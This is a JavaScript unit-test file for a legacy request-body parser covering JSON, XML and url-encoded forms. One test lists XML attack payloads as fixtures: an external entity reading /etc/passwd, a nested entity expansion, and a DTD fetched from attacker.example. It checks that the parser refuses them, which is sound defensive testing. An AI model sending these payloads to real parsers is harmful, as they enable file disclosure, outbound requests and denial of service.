import t from 'tap';
import { formatOf, readLegacyForm } from '../../../host/legacy-content/legacy-body.js';

t.test('formats by media type', async (t) => {
  t.equal(formatOf('application/json'), 'json');
  t.equal(formatOf('application/xml'), 'xml');
  t.equal(formatOf('text/xml'), 'xml');
  t.equal(formatOf('application/x-www-form-urlencoded'), 'urlencoded');
  t.equal(formatOf('text/plain'), undefined);
});

t.test('XML: one child of <content> per member; predefined entities and character references decoded', async (t) => {
  t.same(readLegacyForm('xml', '<content><a>Fish &amp; Chips &#233;&#x263A;</a><b/><c>1</c><c>2</c></content>'), {
    a: 'Fish & Chips é☺',
    b: '',
    c: ['1', '2'],
  });
  t.same(readLegacyForm('xml', '<?xml version="1.0"?><content></content>'), {}, 'a declaration and no member');
  t.same(readLegacyForm('xml', '<content><a x="1">v</a></content>'), { a: 'v' }, 'attributes ignored');
});

t.test('XML that could reach files, the network or memory is refused before parsing', async (t) => {
  const attacks = [
    '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><content><a>&x;</a></content>',
    '<!DOCTYPE c [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><content><a>&b;</a></content>',
    '<!doctype content SYSTEM "http://attacker.example/x.dtd"><content/>',
  ];
  for (const text of attacks) t.throws(() => readLegacyForm('xml', text), { code: 'LEGACY_XML_UNREADABLE' });
  t.same(readLegacyForm('xml', '<content><a>&x;</a></content>').a, '&x;', 'an undeclared entity is left as text');
});

t.test('XML that is not well-formed, or not <content>, could not be read', async (t) => {
  for (const text of [
    '<content><a></content>',
    '<other><a>1</a></other>',
    'plain',
    '<content><a><b>1</b></a></content>',
  ]) {
    t.throws(() => readLegacyForm('xml', text), {
      code: 'LEGACY_XML_UNREADABLE',
      message: /The XML could not be read/,
    });
  }
});

t.test('JSON must be one object', async (t) => {
  t.same(readLegacyForm('json', '{"a":"1","n":2}'), { a: '1', n: 2 });
  for (const text of ['[]', '"x"', '3', 'null'])
    t.throws(() => readLegacyForm('json', text), { code: 'LEGACY_BODY_NOT_OBJECT' });
  t.throws(() => readLegacyForm('json', '{'), { code: 'HTTP_BODY_INVALID_JSON' });
});

t.test('url-encoded: + is a space, a repeated key is a list', async (t) => {
  t.same(readLegacyForm('urlencoded', 'a=1+2&b=%C3%A9&a=3&flag'), { a: ['1 2', '3'], b: 'é', flag: '' });
});
